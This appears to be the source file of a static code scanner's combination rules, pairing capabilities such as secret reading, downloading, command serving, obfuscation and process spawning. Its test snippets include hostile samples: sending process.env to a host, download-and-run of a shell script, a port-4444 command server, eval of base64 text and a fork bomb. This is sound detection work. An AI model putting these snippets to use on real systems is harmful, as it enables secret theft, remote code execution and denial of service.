/** Two harmless-looking halves that are dangerous together, in any language (their tags stand on the other rules). */
import { LANGUAGE_IDS } from '../core/types';
import type { Rule } from './format';

export const combinationRules: readonly Rule[] = [
  {
    id: 'any/environment-secrets/sent-away',
    languages: LANGUAGE_IDS,
    severity: 'high',
    message: 'Reads secrets or credentials and talks to the network',
    recommendation: 'Keep what reads secrets apart from what sends data',
    metadata: { capability: 'environment-secrets', cwe: 'CWE-200' },
    match: { combine: [['secrets', 'sensitive-path'], 'send'] },
    bad: [
      {
        language: 'javascript',
        code: "fetch('https://example.org', { method: 'POST', body: JSON.stringify(process.env) })",
      },
    ],
    ok: [
      { language: 'javascript', code: "fetch('https://example.org/' + process.env.LANG)" },
      { language: 'javascript', code: 'console.log(process.env)' },
    ],
  },
  {
    id: 'any/process/download-and-run',
    languages: LANGUAGE_IDS,
    severity: 'high',
    message: 'Downloads something and runs it',
    recommendation: 'Have the file in the repository, where it can be read before it runs',
    metadata: { capability: 'process', cwe: 'CWE-494' },
    match: { combine: ['download', 'execute'] },
    bad: [
      {
        language: 'javascript',
        code: "const r = await fetch('https://example.org/x.sh');\nrequire('fs').writeFileSync('/tmp/x.sh', await r.text());\nrequire('child_process').execSync('sh /tmp/x.sh');",
      },
    ],
    ok: [
      {
        language: 'javascript',
        code: "const r = await fetch('https://example.org/data.json');\nconsole.log(await r.json());",
      },
    ],
  },
  {
    id: 'any/process/serves-commands',
    languages: LANGUAGE_IDS,
    severity: 'high',
    message: 'Waits for connections and runs commands that are not known before',
    recommendation: 'Never run what somebody sends; answer with data',
    metadata: { capability: 'process', cwe: 'CWE-78' },
    match: { combine: ['serves', 'runs-given'] },
    bad: [
      {
        language: 'javascript',
        code: "require('http').createServer((q, r) => require('child_process').exec(q.url.slice(1), (e, o) => r.end(o))).listen(80)",
      },
      {
        language: 'python',
        code: "import socketserver, subprocess\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n            subprocess.run(line, shell=True)\nsocketserver.TCPServer(('', 4444), H).serve_forever()",
      },
    ],
    ok: [
      { language: 'javascript', code: "require('http').createServer((q, r) => r.end('ok')).listen(80)" },
      {
        language: 'python',
        code: 'import http.server as h\nh.HTTPServer(("127.0.0.1", 80), h.SimpleHTTPRequestHandler)',
      },
    ],
  },
  {
    id: 'any/obfuscation/hides-execution',
    languages: LANGUAGE_IDS,
    severity: 'high',
    message: 'Disguises text and runs code, a process or native memory with it',
    recommendation: 'Write the code out plainly',
    metadata: { capability: 'obfuscation', cwe: 'CWE-506' },
    match: { combine: ['disguise', ['dynamic-code', 'process', 'native']] },
    bad: [{ language: 'javascript', code: "eval(atob('Y29uc29sZS5sb2coMSk='))" }],
    ok: [{ language: 'javascript', code: "console.log(atob('aGVsbG8gd29ybGQ='))" }],
  },
  {
    id: 'any/dynamic-code/hidden-process',
    languages: LANGUAGE_IDS,
    severity: 'high',
    message: 'Runs text as code that starts processes or leaves the language',
    recommendation: 'Write the code out plainly',
    metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
    match: { combine: [['inside:process', 'inside:native', 'inside:sandbox-escape']] },
    bad: [
      { language: 'javascript', code: "eval(\"require('child_process').execFile('ls')\")" },
      {
        language: 'javascript',
        code: "const M = require('module'); new M('x')._compile(\"require('child_process').fork('a')\", 'x.js')",
      },
    ],
    ok: [
      { language: 'javascript', code: "require('child_process').execFile('ls')" },
      { language: 'javascript', code: "eval('1 + 1'); require('child_process').execFile('ls')" },
    ],
  },
  {
    id: 'any/resource-exhaustion/endless-fork',
    languages: LANGUAGE_IDS,
    severity: 'high',
    message: 'Starts processes in a loop without an end',
    recommendation: 'Bound the loop and wait for each process',
    metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
    match: { combine: ['endless', 'fork'] },
    bad: [
      { language: 'javascript', code: "const { fork } = require('child_process');\nwhile (true) fork(__filename);" },
    ],
    ok: [{ language: 'javascript', code: 'while (true) { if (Math.random() > 0.9) break; }' }],
  },
];
